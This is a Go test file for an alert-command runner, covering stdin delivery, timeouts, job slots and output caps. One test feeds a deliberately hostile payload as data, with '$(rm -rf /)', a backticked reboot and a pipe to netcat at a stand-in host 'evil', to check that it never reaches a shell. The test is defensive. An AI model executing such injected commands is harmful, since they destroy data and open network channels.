package action

import (
	"bytes"
	"context"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// logs is a log sink jobs may write to concurrently.
type logs struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logs) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (l *logs) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

func runner(t *testing.T, parallel int) (*Runner, *logs) {
	t.Helper()
	l := &logs{}
	return New(slog.New(slog.NewTextHandler(l, nil)), parallel), l
}

// TestCommandGetsTheAlertOnStdin: the record arrives on standard input
// byte for byte, whatever it holds (shell metacharacters included), and
// never reaches the command line.
func TestCommandGetsTheAlertOnStdin(t *testing.T) {
	dir := t.TempDir()
	out := filepath.Join(dir, "got")
	r, logs := runner(t, 2)
	payload := []byte(`{"message":"$(rm -rf /); ` + "`reboot`" + ` | nc evil 1"}`)
	r.Run(context.Background(), Job{Name: "page", Argv: []string{"/bin/sh", "-c", `cat > "$1"; echo done "$WEIR_ALERT_LEVEL"`, "sh", out},
		Timeout: 5 * time.Second, Stdin: payload, Env: []string{"WEIR_ALERT_LEVEL=PAGE"}})
	r.Wait()
	got, err := os.ReadFile(out)
	require.NoError(t, err)
	require.Equal(t, payload, got)
	require.Contains(t, logs.String(), "alert command ran")
	require.Contains(t, logs.String(), "output=\"done PAGE\"")
	require.Equal(t, Stats{Started: 1}, r.Stats())
}

func TestCommandTimeoutAndFailure(t *testing.T) {
	r, logs := runner(t, 4)
	start := time.Now()
	r.Run(context.Background(), Job{Name: "slow", Argv: []string{"/bin/sleep", "30"}, Timeout: 200 * time.Millisecond})
	r.Run(context.Background(), Job{Name: "bad", Argv: []string{"/bin/sh", "-c", "echo oops >&2; exit 3"}, Timeout: 5 * time.Second})
	r.Run(context.Background(), Job{Name: "missing", Argv: []string{"/nonexistent/notify"}, Timeout: time.Second})
	r.Wait()
	require.Less(t, time.Since(start), 10*time.Second)
	s := logs.String()
	require.Contains(t, s, "alert command killed at its timeout")
	require.Contains(t, s, "alert command failed")
	require.Contains(t, s, "exit=3")
	require.Contains(t, s, "output=oops")
	require.Contains(t, s, "alert command could not run")
	require.Equal(t, Stats{Started: 3, Failed: 3}, r.Stats())
}

// TestSlotsBoundTheJobs: past the slots, jobs are skipped, not queued.
func TestSlotsBoundTheJobs(t *testing.T) {
	r, logs := runner(t, 1)
	ctx, cancel := context.WithCancel(context.Background())
	r.Run(ctx, Job{Name: "a", Argv: []string{"/bin/sleep", "30"}, Timeout: time.Minute})
	r.Run(ctx, Job{Name: "b", Argv: []string{"/bin/true"}, Timeout: time.Minute})
	cancel()
	r.Wait()
	require.Equal(t, uint64(1), r.Stats().Skipped)
	require.Contains(t, logs.String(), "alert command skipped")
}

func TestOutputIsCapped(t *testing.T) {
	r, logs := runner(t, 1)
	r.Run(context.Background(), Job{Name: "chatty", Argv: []string{"/bin/sh", "-c", "head -c 100000 /dev/zero | tr '\\0' x"}, Timeout: 5 * time.Second})
	r.Wait()
	require.Contains(t, logs.String(), "[output cut]")
	require.Less(t, len(logs.String()), MaxOutput+1000)
	require.True(t, strings.Contains(logs.String(), strings.Repeat("x", 100)))
}
